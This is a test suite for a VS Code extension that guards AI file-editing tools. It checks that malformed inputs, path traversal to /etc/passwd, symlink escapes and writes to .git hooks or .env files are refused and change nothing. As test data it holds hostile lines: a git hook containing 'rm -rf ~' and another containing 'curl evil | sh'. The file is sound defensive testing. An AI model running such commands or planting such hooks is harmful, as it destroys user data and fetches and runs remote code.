// A confused or hostile caller (docs/design.md §Path policy). A table of bad inputs and hostile paths, each through
// vscode.lm.invokeTool in the real host: the result status and code, a message that names the
// problem in words a model can act on, and the file exactly as it was — bytes on disk, buffer text
// and dirty flag. Half the cases run against a document open with unsaved user edits.
// Plus: protected files through real chat turns with the user's Allow / Skip, and what workspace
// trust can be tested here.
import * as vscode from 'vscode';
import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import {
  activateExtension,
  activateScriptedAgent,
  cleanUp,
  diskText,
  EXTENSION_ID,
  expectStatus,
  fileRef,
  makeFile,
  marksFor,
  newChat,
  openInEditor,
  READ,
  readFile,
  REPLACE,
  setConfig,
  type TestFile,
  type ToolName,
  uniquePath,
  userEdit,
  WRITE,
  workspaceRoot,
} from './helpers';
import { confirmationText, startTurn, turnDone } from './confirmations';
import { driverAvailable } from './ui';
import { assertUnchanged, invokeRaw, stateOf } from './reliabilityHelpers';

const ORIGINAL = 'alpha\nbeta\ngamma\nbeta\n';

interface Case {
  name: string;
  tool: ToolName;
  /** the input, given the test file (and the paths of the fixtures) */
  input: (f: TestFile, fx: Fixtures) => unknown;
  status?: 'error' | 'blocked';
  code?: string;
  reason?: string;
  /** what the message must say */
  says: RegExp;
  /** read the file first, so the gate lets the call reach the check under test */
  readFirst?: boolean;
  /** the file under test, if not the default one */
  target?: (fx: Fixtures) => TestFile;
}

interface Fixtures {
  outsideFile: string;
  linkToOutside: TestFile;
  linkedFolderFile: TestFile;
  notebook: TestFile;
  folder: TestFile;
}

const CASES: Case[] = [
  // ---- paths ----
  {
    name: 'write: empty filePath',
    tool: WRITE,
    input: () => ({ filePath: '', content: 'x' }),
    code: 'invalid-input',
    says: /filePath.*(missing|empty)/i,
  },
  { name: 'read: empty filePath', tool: READ, input: () => ({ filePath: '' }), code: 'invalid-input', says: /filePath.*(missing|empty)/i },
  {
    name: 'replace: whitespace-only filePath',
    tool: REPLACE,
    input: () => ({ filePath: '   ', oldString: 'a', newString: 'b' }),
    code: 'invalid-input',
    says: /filePath.*(missing|empty)/i,
  },
  { name: 'write: filePath null', tool: WRITE, input: () => ({ filePath: null, content: 'x' }), code: 'invalid-input', says: /filePath/ },
  { name: 'write: filePath a number', tool: WRITE, input: () => ({ filePath: 42, content: 'x' }), code: 'invalid-input', says: /filePath/ },
  {
    name: 'replace: filePath an object',
    tool: REPLACE,
    input: () => ({ filePath: { path: 'a.txt' }, oldString: 'a', newString: 'b' }),
    code: 'invalid-input',
    says: /filePath/,
  },
  { name: 'read: filePath an array', tool: READ, input: (f) => ({ filePath: [f.rel] }), code: 'invalid-input', says: /filePath/ },
  { name: 'write: filePath missing', tool: WRITE, input: () => ({ content: 'x' }), code: 'invalid-input', says: /filePath.*missing/i },
  {
    name: 'write: NUL byte in filePath',
    tool: WRITE,
    input: (f) => ({ filePath: `${f.rel}\0.txt`, content: 'x' }),
    code: 'invalid-input',
    says: /NUL/,
  },
  { name: 'read: NUL byte in filePath', tool: READ, input: (f) => ({ filePath: `\0${f.rel}` }), code: 'invalid-input', says: /NUL/ },
  {
    name: 'replace: NUL byte in filePath',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel.replace('/', '/\0'), oldString: 'beta', newString: 'b' }),
    code: 'invalid-input',
    says: /NUL/,
  },
  {
    name: 'write: a folder',
    tool: WRITE,
    input: (_f, fx) => ({ filePath: fx.folder.rel, content: 'x' }),
    code: 'invalid-input',
    says: /folder|directory/i,
    target: (fx) => fx.folder,
  },
  {
    name: 'read: a folder',
    tool: READ,
    input: (_f, fx) => ({ filePath: fx.folder.rel }),
    code: 'invalid-input',
    says: /folder|directory/i,
    target: (fx) => fx.folder,
  },
  {
    name: 'replace: a folder',
    tool: REPLACE,
    input: (_f, fx) => ({ filePath: fx.folder.rel, oldString: 'a', newString: 'b' }),
    code: 'invalid-input',
    says: /folder|directory/i,
    target: (fx) => fx.folder,
  },
  {
    name: 'write: ../ out of the workspace',
    tool: WRITE,
    input: (_f, fx) => ({ filePath: `../${path.basename(fx.outsideFile)}`, content: 'x' }),
    code: 'outside-workspace',
    says: /outside the workspace/i,
  },
  {
    name: 'write: ../ hidden in the middle',
    tool: WRITE,
    input: (_f, fx) => ({ filePath: `gen/../../${path.basename(fx.outsideFile)}`, content: 'x' }),
    code: 'outside-workspace',
    says: /outside the workspace/i,
  },
  {
    name: 'read: ../../etc/passwd',
    tool: READ,
    input: () => ({ filePath: '../../../../../../etc/passwd' }),
    code: 'outside-workspace',
    says: /outside the workspace/i,
  },
  {
    name: 'read: absolute path outside',
    tool: READ,
    input: (_f, fx) => ({ filePath: fx.outsideFile }),
    code: 'outside-workspace',
    says: /outside the workspace/i,
  },
  {
    name: 'write: absolute path outside',
    tool: WRITE,
    input: (_f, fx) => ({ filePath: fx.outsideFile, content: 'pwned' }),
    code: 'outside-workspace',
    says: /outside the workspace/i,
  },
  {
    name: 'replace: absolute path outside',
    tool: REPLACE,
    input: (_f, fx) => ({ filePath: fx.outsideFile, oldString: 'outside', newString: 'x' }),
    code: 'outside-workspace',
    says: /outside the workspace/i,
  },
  {
    name: 'write: absolute /etc path',
    tool: WRITE,
    input: () => ({ filePath: '/etc/editguard-should-not-exist', content: 'x' }),
    code: 'outside-workspace',
    says: /outside the workspace/i,
  },
  {
    name: 'read: symlink in the workspace to a file outside',
    tool: READ,
    input: (_f, fx) => ({ filePath: fx.linkToOutside.rel }),
    code: 'outside-workspace',
    says: /symbolic link/i,
  },
  {
    name: 'write: symlink in the workspace to a file outside',
    tool: WRITE,
    input: (_f, fx) => ({ filePath: fx.linkToOutside.rel, content: 'through the link' }),
    code: 'outside-workspace',
    says: /symbolic link/i,
  },
  {
    name: 'replace: symlink in the workspace to a file outside',
    tool: REPLACE,
    input: (_f, fx) => ({ filePath: fx.linkToOutside.rel, oldString: 'outside', newString: 'x' }),
    code: 'outside-workspace',
    says: /symbolic link/i,
  },
  {
    name: 'write: a new file under a symlinked folder outside',
    tool: WRITE,
    input: (_f, fx) => ({ filePath: fx.linkedFolderFile.rel, content: 'x' }),
    code: 'outside-workspace',
    says: /symbolic link/i,
    target: (fx) => fx.linkedFolderFile,
  },
  {
    name: 'write: .git/config',
    tool: WRITE,
    input: () => ({ filePath: '.git/config', content: '[core]\n' }),
    code: 'protected',
    says: /\.git/,
  },
  {
    name: 'write: nested .git/hooks/pre-commit',
    tool: WRITE,
    input: () => ({ filePath: 'gen/sub/.git/hooks/pre-commit', content: 'rm -rf ~' }),
    code: 'protected',
    says: /\.git/,
  },
  {
    name: 'replace: .git/HEAD',
    tool: REPLACE,
    input: () => ({ filePath: '.git/HEAD', oldString: 'main', newString: 'evil' }),
    code: 'protected',
    says: /\.git/,
  },
  {
    name: 'write: a notebook',
    tool: WRITE,
    input: (_f, fx) => ({ filePath: fx.notebook.rel, content: '{}' }),
    code: 'invalid-input',
    says: /notebook/i,
    target: (fx) => fx.notebook,
  },
  {
    name: 'append: a notebook',
    tool: WRITE,
    input: (_f, fx) => ({ filePath: fx.notebook.rel, content: ',', append: true }),
    code: 'invalid-input',
    says: /notebook/i,
    target: (fx) => fx.notebook,
  },
  {
    name: 'replace: a notebook',
    tool: REPLACE,
    input: (_f, fx) => ({ filePath: fx.notebook.rel, oldString: '"cells"', newString: '"cellz"' }),
    code: 'invalid-input',
    says: /notebook/i,
    target: (fx) => fx.notebook,
  },

  // ---- the shape of the input ----
  { name: 'write: input is a string', tool: WRITE, input: () => 'write alpha to a.txt', code: 'invalid-input', says: /object/i },
  { name: 'read: input is an array', tool: READ, input: (f) => [f.rel], code: 'invalid-input', says: /object/i },
  { name: 'replace: input is a number', tool: REPLACE, input: () => 7, code: 'invalid-input', says: /object/i },
  {
    name: 'write: content a number',
    tool: WRITE,
    input: (f) => ({ filePath: f.rel, content: 42 }),
    code: 'invalid-input',
    says: /content.*string/i,
  },
  { name: 'write: content missing', tool: WRITE, input: (f) => ({ filePath: f.rel }), code: 'invalid-input', says: /content.*missing/i },
  { name: 'write: content null', tool: WRITE, input: (f) => ({ filePath: f.rel, content: null }), code: 'invalid-input', says: /content/ },
  {
    name: 'write: content an object',
    tool: WRITE,
    input: (f) => ({ filePath: f.rel, content: { text: 'x' } }),
    code: 'invalid-input',
    says: /content.*string/i,
  },
  {
    name: 'write: content an array of lines',
    tool: WRITE,
    input: (f) => ({ filePath: f.rel, content: ['a', 'b'] }),
    code: 'invalid-input',
    says: /content.*string/i,
  },
  {
    name: 'write: append "yes"',
    tool: WRITE,
    input: (f) => ({ filePath: f.rel, content: 'x', append: 'yes' }),
    code: 'invalid-input',
    says: /append.*(true or false|boolean)/i,
    readFirst: true,
  },
  {
    name: 'write: append 1',
    tool: WRITE,
    input: (f) => ({ filePath: f.rel, content: 'x', append: 1 }),
    code: 'invalid-input',
    says: /append/,
  },
  {
    name: 'write: "contents" instead of content',
    tool: WRITE,
    input: (f) => ({ filePath: f.rel, contents: 'x' }),
    code: 'invalid-input',
    says: /"contents".*"content"|content.*contents/,
  },
  {
    name: 'write: "path" instead of filePath',
    tool: WRITE,
    input: (f) => ({ path: f.rel, content: 'x' }),
    code: 'invalid-input',
    says: /"path".*"filePath"/,
  },
  {
    name: 'write: "file_path" instead of filePath',
    tool: WRITE,
    input: (f) => ({ file_path: f.rel, content: 'x' }),
    code: 'invalid-input',
    says: /"file_path".*"filePath"/,
  },
  {
    name: 'read: "path" instead of filePath',
    tool: READ,
    input: (f) => ({ path: f.rel }),
    code: 'invalid-input',
    says: /"path".*"filePath"/,
  },
  {
    name: 'replace: "file_path" instead of filePath',
    tool: REPLACE,
    input: (f) => ({ file_path: f.rel, oldString: 'gamma', newString: 'G' }),
    code: 'invalid-input',
    says: /"file_path".*"filePath"/,
  },
  {
    name: 'replace: oldString missing',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, newString: 'x' }),
    code: 'invalid-input',
    says: /oldString.*missing/i,
  },
  {
    name: 'replace: old_string / new_string (snake case)',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, old_string: 'gamma', new_string: 'G' }),
    code: 'invalid-input',
    says: /"old_string".*"oldString"/,
  },
  {
    name: 'replace: newString missing',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'gamma' }),
    code: 'invalid-input',
    says: /newString.*missing/i,
  },
  {
    name: 'replace: new_string instead of newString',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'gamma', new_string: 'G' }),
    code: 'invalid-input',
    says: /"new_string".*"newString"/,
  },
  {
    name: 'replace: oldString a number',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 42, newString: 'x' }),
    code: 'invalid-input',
    says: /oldString.*string/i,
  },
  {
    name: 'replace: newString null',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'gamma', newString: null }),
    code: 'invalid-input',
    says: /newString/,
  },
  {
    name: 'replace: newString an object',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'gamma', newString: { a: 1 } }),
    code: 'invalid-input',
    says: /newString.*string/i,
  },
  {
    name: 'replace: replaceAll "yes"',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'beta', newString: 'B', replaceAll: 'yes' }),
    code: 'invalid-input',
    says: /replaceAll.*(true or false|boolean)/i,
    readFirst: true,
  },
  {
    name: 'replace: replaceAll 1',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'beta', newString: 'B', replaceAll: 1 }),
    code: 'invalid-input',
    says: /replaceAll/,
  },
  {
    name: 'read: offset 0',
    tool: READ,
    input: (f) => ({ filePath: f.rel, offset: 0 }),
    code: 'invalid-input',
    says: /offset.*at least 1/i,
  },
  {
    name: 'read: offset -3',
    tool: READ,
    input: (f) => ({ filePath: f.rel, offset: -3 }),
    code: 'invalid-input',
    says: /offset.*at least 1/i,
  },
  {
    name: 'read: offset 1.5',
    tool: READ,
    input: (f) => ({ filePath: f.rel, offset: 1.5 }),
    code: 'invalid-input',
    says: /offset.*whole number/i,
  },
  {
    name: 'read: offset "ten"',
    tool: READ,
    input: (f) => ({ filePath: f.rel, offset: 'ten' }),
    code: 'invalid-input',
    says: /offset.*whole number/i,
  },
  { name: 'read: limit 0', tool: READ, input: (f) => ({ filePath: f.rel, limit: 0 }), code: 'invalid-input', says: /limit.*at least 1/i },
  { name: 'read: limit -1', tool: READ, input: (f) => ({ filePath: f.rel, limit: -1 }), code: 'invalid-input', says: /limit.*at least 1/i },
  {
    name: 'read: limit 2.5',
    tool: READ,
    input: (f) => ({ filePath: f.rel, limit: 2.5 }),
    code: 'invalid-input',
    says: /limit.*whole number/i,
  },
  {
    name: 'read: limit "5"',
    tool: READ,
    input: (f) => ({ filePath: f.rel, limit: '5' }),
    code: 'invalid-input',
    says: /limit.*whole number/i,
  },
  {
    name: 'read: offset past the end',
    tool: READ,
    input: (f) => ({ filePath: f.rel, offset: 99 }),
    code: 'invalid-input',
    says: /past the end/i,
  },

  // ---- the text does not fit ----
  {
    name: 'replace: empty oldString on a non-empty file',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: '', newString: 'x' }),
    code: 'invalid-input',
    says: /oldString is empty/i,
    readFirst: true,
  },
  {
    name: 'replace: oldString === newString',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'gamma', newString: 'gamma' }),
    code: 'invalid-input',
    says: /identical|the same/i,
    readFirst: true,
  },
  {
    name: 'replace: no match',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'delta', newString: 'x' }),
    code: 'no-match',
    says: /not found|does not occur/i,
    readFirst: true,
  },
  {
    name: 'replace: replaceAll with no match',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'epsilon', newString: 'x', replaceAll: true }),
    code: 'no-match',
    says: /not found|does not occur/i,
    readFirst: true,
  },
  {
    name: 'replace: one line pasted with its line-number prefix',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: '3\tgamma', newString: 'G' }),
    code: 'no-match',
    says: /line numbers?[^]*not part of the file/i,
    readFirst: true,
  },
  {
    name: 'replace: lines pasted with padded line-number prefixes',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: '  2\tbeta\n  3\tgamma', newString: 'x' }),
    code: 'no-match',
    says: /line numbers?[^]*not part of the file/i,
    readFirst: true,
  },
  {
    name: 'replace: wrong indentation',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: '  gamma', newString: 'x' }),
    code: 'no-match',
    says: /whitespace|indentation/i,
    readFirst: true,
  },
  {
    name: 'replace: ambiguous',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'beta', newString: 'B' }),
    code: 'ambiguous',
    says: /2 times[^]*replaceAll/i,
    readFirst: true,
  },
  {
    name: 'replace: a missing file',
    tool: REPLACE,
    input: () => ({ filePath: uniquePath('bad-missing'), oldString: 'a', newString: 'b' }),
    code: 'not-found',
    says: /does not exist|not found/i,
  },
  {
    name: 'read: a missing file',
    tool: READ,
    input: () => ({ filePath: uniquePath('bad-missing-read') }),
    code: 'not-found',
    says: /does not exist|not found/i,
  },

  // ---- refused by the gate: a refusal changes nothing either ----
  {
    name: 'write: never read in this chat',
    tool: WRITE,
    input: (f) => ({ filePath: f.rel, content: 'clobber' }),
    status: 'blocked',
    reason: 'not-read',
    says: /not read/i,
  },
  {
    name: 'append: never read in this chat',
    tool: WRITE,
    input: (f) => ({ filePath: f.rel, content: 'more', append: true }),
    status: 'blocked',
    reason: 'not-read',
    says: /not read/i,
  },
  {
    name: 'replace: never read in this chat',
    tool: REPLACE,
    input: (f) => ({ filePath: f.rel, oldString: 'gamma', newString: 'G' }),
    status: 'blocked',
    reason: 'not-read',
    says: /not read/i,
  },
];

suite('bad input: a table of model mistakes and hostile paths (nothing changes)', () => {
  let fx: Fixtures;
  const outsideDir = fs.mkdtempSync(path.join(os.tmpdir(), 'editguard-outside-'));

  suiteSetup(async () => {
    await activateExtension();
    assert.ok(!outsideDir.startsWith(workspaceRoot()), 'test setup: the outside folder is outside the workspace');
    const outsideFile = path.join(outsideDir, 'outside.txt');
    fs.writeFileSync(outsideFile, 'outside the workspace\n');
    const linkToOutside = fileRef(uniquePath('link-to-outside'));
    fs.mkdirSync(path.dirname(linkToOutside.abs), { recursive: true });
    fs.symlinkSync(outsideFile, linkToOutside.abs);
    const linkedFolder = fileRef(uniquePath('linked-folder', ''));
    fs.symlinkSync(outsideDir, linkedFolder.abs);
    const linkedFolderFile = fileRef(`${linkedFolder.rel}/created-through-link.txt`);
    const notebook = makeFile(
      'nb',
      JSON.stringify(
        {
          cells: [{ cell_type: 'code', source: ['print(1)\n'], metadata: {}, outputs: [], execution_count: null }],
          metadata: {},
          nbformat: 4,
          nbformat_minor: 5,
        },
        null,
        1,
      ) + '\n',
      '.ipynb',
    );
    const folder = fileRef(uniquePath('a-folder', ''));
    fs.mkdirSync(folder.abs, { recursive: true });
    fx = { outsideFile, linkToOutside, linkedFolderFile, notebook, folder };
  });

  suiteTeardown(() => {
    fs.rmSync(outsideDir, { recursive: true, force: true });
  });

  teardown(cleanUp);

  test(`the table has at least 60 cases (${CASES.length})`, () => {
    assert.ok(CASES.length >= 60, `${CASES.length} cases`);
    assert.strictEqual(new Set(CASES.map((c) => c.name)).size, CASES.length, 'case names are unique');
  });

  CASES.forEach((c, index) => {
    const dirty = index % 2 === 0;
    test(`${c.name} → ${c.status ?? 'error'} ${c.code ?? c.reason}${dirty ? ' (document open with unsaved edits)' : ''}`, async () => {
      const f = makeFile('bad', ORIGINAL);
      if (dirty) {
        const editor = await openInEditor(f);
        await userEdit(editor.document, 'alpha', 'alpha (unsaved)');
      }
      if (c.readFirst) expectStatus(await readFile(f.rel), 'ok');
      const target = c.target?.(fx) ?? f;
      const watched = [f, target, fileRef(path.relative(workspaceRoot(), fx.outsideFile))];
      const before = watched.map(stateOf);
      const outsideBefore = fs.readFileSync(fx.outsideFile);
      const etcBefore = fs.existsSync('/etc/editguard-should-not-exist');

      const out = await invokeRaw(c.tool, c.input(f, fx));

      expectStatus(out, c.status ?? 'error', { code: c.code, reason: c.reason as 'not-read' | undefined });
      assert.match(out.text, c.says, `the message names the problem (${c.says}):\n${out.text}`);
      assert.ok(out.json.message.length > 0);
      if ((c.status ?? 'error') === 'error') assert.match(out.text, /^ERROR/, 'the text starts by saying it is an error');
      watched.forEach((w, i) => assertUnchanged(w, before[i], `${c.name} (${w.rel})`));
      assert.ok(fs.readFileSync(fx.outsideFile).equals(outsideBefore), 'the file outside the workspace is untouched');
      assert.ok(!fs.existsSync(path.join(outsideDir, 'created-through-link.txt')), 'nothing was created outside through a link');
      assert.strictEqual(fs.existsSync('/etc/editguard-should-not-exist'), etcBefore);
      assert.ok(
        !fs.existsSync(path.join(workspaceRoot(), '.git', 'config')) || c.name !== 'write: .git/config',
        'no .git/config was created',
      );
    });
  });

  test('extra unknown keys are tolerated: the call works', async () => {
    const f = makeFile('bad-extra-keys', ORIGINAL);
    expectStatus(await invokeRaw(READ, { filePath: f.rel, explanation: 'reading first', mode: 'fast' }), 'ok');
    const out = await invokeRaw(REPLACE, {
      filePath: f.rel,
      oldString: 'gamma',
      newString: 'GAMMA',
      explanation: 'fix case',
      old_string: 'ignored',
    });
    expectStatus(out, 'ok');
    assert.strictEqual(diskText(f), ORIGINAL.replace('gamma', 'GAMMA'));
  });

  test('a huge content (over 50 MiB of text) is too-large, and nothing is written', async function () {
    const f = makeFile('bad-huge', ORIGINAL);
    expectStatus(await readFile(f.rel), 'ok');
    const before = stateOf(f);
    const huge = 'x'.repeat(50 * 1024 * 1024 + 16);
    const out = await invokeRaw(WRITE, { filePath: f.rel, content: huge });
    expectStatus(out, 'error', { code: 'too-large' });
    assert.match(out.text, /50 MiB/, `the message names the limit:\n${out.text.slice(0, 500)}`);
    assert.ok(out.text.length < 10_000, 'the error does not echo the content back');
    assertUnchanged(f, before, 'huge content');
  });

  test('allowOutsideWorkspace = true lets a path outside through (and false again refuses it)', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'editguard-allowed-'));
    try {
      const outside = path.join(dir, 'allowed.txt');
      fs.writeFileSync(outside, 'outside\n');
      expectStatus(await invokeRaw(READ, { filePath: outside }), 'error', { code: 'outside-workspace' });
      await setConfig('editGuard', 'allowOutsideWorkspace', true);
      const read = await invokeRaw(READ, { filePath: outside });
      expectStatus(read, 'ok');
      assert.match(read.text, /1\toutside/);
      expectStatus(await invokeRaw(REPLACE, { filePath: outside, oldString: 'outside', newString: 'changed' }), 'ok');
      assert.strictEqual(fs.readFileSync(outside, 'utf8'), 'changed\n');
      await setConfig('editGuard', 'allowOutsideWorkspace', false);
      expectStatus(await invokeRaw(WRITE, { filePath: outside, content: 'again' }), 'error', { code: 'outside-workspace' });
      assert.strictEqual(fs.readFileSync(outside, 'utf8'), 'changed\n');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

// ---------------------------------------------------------------------------------------------
// protected files: the user decides, in a real chat turn

suite('protected files: the user allows or skips, in a real chat turn', () => {
  suiteSetup(async () => {
    await activateExtension();
    await activateScriptedAgent();
  });
  setup(newChat);
  teardown(async () => {
    // never leave a confirmation pending for the next test
    await vscode.commands.executeCommand('workbench.action.chat.skipTool').then(undefined, () => undefined);
    await cleanUp();
  });

  test('writing .env asks first (title and message name the file and the pattern); Skip: invoke never runs, the file is untouched', async () => {
    const dir = uniquePath('protected', '');
    const env = fileRef(`${dir}/.env`);
    fs.mkdirSync(path.dirname(env.abs), { recursive: true });
    fs.writeFileSync(env.abs, 'SECRET=1\n');
    const before = stateOf(env);

    const { answer, before: n } = await startTurn([{ tool: WRITE, input: { filePath: env.rel, content: 'SECRET=stolen\n' } }]);
    assert.strictEqual((answer as { type?: string })?.type, 'confirmation', `the turn stops at a confirmation: ${JSON.stringify(answer)}`);
    if (driverAvailable()) {
      const { title, message } = await confirmationText();
      assert.match(title, /change.*protected file/i, `the title says: change a protected file: ${title}`);
      assert.match(message, new RegExp(`${env.rel.replace(/[.]/g, '\\.')}`), `the message names the file: ${message}`);
      assert.match(message, /\*\*\/\.env/, `the message names the matching pattern: ${message}`);
    }
    await vscode.commands.executeCommand('workbench.action.chat.skipTool');
    const req = await turnDone(n);
    assertUnchanged(env, before, 'skipped write of .env');
    assert.strictEqual(req.results.length, 1);
    assert.ok(
      !req.results[0].json || req.results[0].json.status !== 'ok',
      `the skipped call did not run: ${JSON.stringify(req.results[0])}`,
    );
    assert.deepStrictEqual(marksFor(env.uri), [], 'invoke never ran: no mark for the file');
  });

  test('reading a .pem asks first; Allow: the read runs and shows the file', async () => {
    const pem = makeFile('cert', '-----BEGIN CERTIFICATE-----\nabc\n', '.pem');
    const { answer, before: n } = await startTurn([{ tool: READ, input: { filePath: pem.rel } }]);
    assert.strictEqual((answer as { type?: string })?.type, 'confirmation', `the read of a protected file asks: ${JSON.stringify(answer)}`);
    if (driverAvailable()) {
      const { title, message } = await confirmationText();
      assert.match(title, /read.*protected file/i, `the title says: read a protected file: ${title}`);
      assert.match(message, new RegExp(pem.rel.replace(/[.]/g, '\\.')), `the message names the file: ${message}`);
      assert.match(message, /\*\*\/\*\.pem/, `the message names the pattern: ${message}`);
    }
    await vscode.commands.executeCommand('workbench.action.chat.acceptTool');
    const req = await turnDone(n);
    expectStatus(req.results[0], 'ok');
    assert.match(req.results[0].text, /BEGIN CERTIFICATE/);
  });

  test('writing .vscode/settings.json asks; Allow: the write runs (and the gate still applies: never read → blocked)', async () => {
    const settings = fileRef('.vscode/settings.json');
    const existed = fs.existsSync(settings.abs);
    const before = stateOf(settings);
    const { answer, before: n } = await startTurn([{ tool: WRITE, input: { filePath: settings.rel, content: '{ "evil": true }\n' } }]);
    assert.strictEqual((answer as { type?: string })?.type, 'confirmation');
    await vscode.commands.executeCommand('workbench.action.chat.acceptTool');
    const req = await turnDone(n);
    if (existed) {
      expectStatus(req.results[0], 'blocked', { reason: 'not-read' });
      assertUnchanged(settings, before, 'accepted but unread settings.json');
    } else {
      expectStatus(req.results[0], 'ok');
      fs.rmSync(settings.abs);
    }
  });

  test('a protected file inside a .git folder is refused outright, with no confirmation', async () => {
    const { answer, before: n } = await startTurn([
      { tool: WRITE, input: { filePath: '.git/hooks/post-checkout', content: 'curl evil | sh\n' } },
    ]);
    assert.notStrictEqual((answer as { type?: string })?.type, 'confirmation', 'no confirmation for .git');
    const req = await turnDone(n);
    expectStatus(req.results[0], 'error', { code: 'protected' });
    assert.ok(!fs.existsSync(path.join(workspaceRoot(), '.git', 'hooks', 'post-checkout')));
  });
});

suite('workspace trust (what this host can show)', () => {
  test('the manifest declares limited support for untrusted workspaces, and writes work in this trusted host', async () => {
    await activateExtension();
    const pkg = vscode.extensions.getExtension(EXTENSION_ID)!.packageJSON as {
      capabilities?: { untrustedWorkspaces?: { supported?: unknown; description?: string } };
    };
    assert.strictEqual(pkg.capabilities?.untrustedWorkspaces?.supported, 'limited');
    assert.match(String(pkg.capabilities?.untrustedWorkspaces?.description), /read/i);
    assert.strictEqual(vscode.workspace.isTrusted, true, 'the test host runs trusted (untrusted cannot be reached from here)');
    const f = makeFile('trusted', 'a\n');
    expectStatus(await readFile(f.rel), 'ok');
    expectStatus(await invokeRaw(WRITE, { filePath: f.rel, content: 'b\n' }), 'ok');
  });
});
